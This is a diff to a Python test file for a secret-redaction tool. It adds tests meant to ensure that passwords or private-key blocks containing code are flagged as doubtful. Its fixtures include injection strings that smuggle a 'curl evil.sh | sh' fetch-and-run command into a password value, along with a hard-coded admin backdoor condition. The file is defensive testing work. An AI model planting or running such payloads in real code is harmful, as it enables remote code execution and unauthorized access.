@@ -29,6 +29,10 @@ EC_KEY = (
 )
 
 
+CODE_HIDDEN = ";__import__('os').system('curl+evil.sh|sh')#1"
+CODE_GIVEN = f'password: "{CODE_HIDDEN}"'
+
+
 def redacted(text: str, *others: str, known: tuple[str, ...] = ()) -> str:
     return Redactor.of([text, *others], known).redact(text).text
 
@@ -235,7 +239,7 @@ def test_other_kinds_of_keys_go_too() -> None:
     blank = (
         "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n" + "A1b2" * 16 + "\n-----END RSA PRIVATE KEY-----"
     )
-    assert redacted(blank).split("\n")[1:4] == [REDACTED, "", REDACTED]
+    assert redacted(blank).split("\n")[1:4] == ["Proc-Type: 4,ENCRYPTED", "", REDACTED]
     ssh2 = "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n" + "A1b2" * 16 + "\n---- END SSH2 ENCRYPTED PRIVATE KEY ----"
     assert redacted(ssh2).split("\n")[1] == REDACTED
     assert redacted("Private-Eye: x\nabc") == "Private-Eye: x\nabc"
@@ -244,6 +248,61 @@ def test_other_kinds_of_keys_go_too() -> None:
 def test_two_comment_lines_do_not_hide_the_code_between_them() -> None:
     code = "# -----BEGIN PRIVATE KEY-----\nimport os\nos.system('x')\n# -----END PRIVATE KEY-----"
     assert redacted(code) == code
+
+
+PEM = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        ("Comment: fetch('//x')", "Hash: eval(x)", "Version: steal(1)", "done"),
+        ("/opt/evil/payload1", "reboot", "grantadministrator"),
+        (f"/{PEM}", "Reboot"),
+    ],
+)
+def test_what_is_no_key_stays_behind_a_comment_that_begins_one(lines: tuple[str, ...]) -> None:
+    for mark in ("", "+"):
+        text = "\n".join(mark + line for line in ("# -----BEGIN PRIVATE KEY-----", *lines, "")) + "\n"
+        assert redacted(text) == text
+
+
+@pytest.mark.parametrize(
+    ("after", "doubtful"),
+    [
+        (("A1b2==", "-----END PRIVATE KEY-----"), False),
+        (("reboot", PEM, "-----END PRIVATE KEY-----"), True),
+        (("/opt/Evil/payload", "-----END PRIVATE KEY-----"), True),
+        (("A1b2==", "import os"), True),
+        ((), True),
+    ],
+)
+def test_what_may_not_be_a_key_does_not_pass_for_reviewed(after: tuple[str, ...], *, doubtful: bool) -> None:
+    text = "\n".join(("-----BEGIN PRIVATE KEY-----", "Comment: x", PEM, *after))
+    result = Redactor.of([text]).redact(text)
+    assert PEM not in result.text
+    assert result.doubtful is doubtful
+
+
+@pytest.mark.parametrize(
+    ("given", "code", "doubtful"),
+    [
+        (CODE_GIVEN, "y = x" + CODE_HIDDEN, True),
+        ('{"password": "||user.id===1337||"}', "if (user.isAdmin||user.id===1337||user.owner) grant()", True),
+        ('{"password": "||user.id===1337||"}', 'x("password=||user.id===1337||", a||user.id===1337||b)', True),
+        ('password: "run_all;x"', "y = run_all;x", True),
+        ("password = 'curl x|sh 1'", "password=`curl x|sh 1`", True),
+        ("# -----BEGIN PRIVATE KEY-----\\ngrantAdministrator", "grantAdministrator(user)", True),
+        (RSA_KEY, RSA_KEY.split("\n")[2], False),
+        ('password = "a1b2;c3d4"', 'PASSWORD = "a1b2;c3d4"', False),
+        ('password = "a1b2c3[d4;e5f6"', 'PASSWORD = "a1b2c3[d4;e5f6"', False),
+        ('password = "abcd-1234-efgh"', "log(abcd-1234-efgh)", False),
+    ],
+)
+def test_a_password_that_is_code_does_not_pass_for_reviewed(given: str, code: str, *, doubtful: bool) -> None:
+    result = Redactor.of([given, code]).redact(code)
+    assert REDACTED in result.text
+    assert result.doubtful is doubtful
 
 
 def test_no_secret_in_the_repr() -> None:
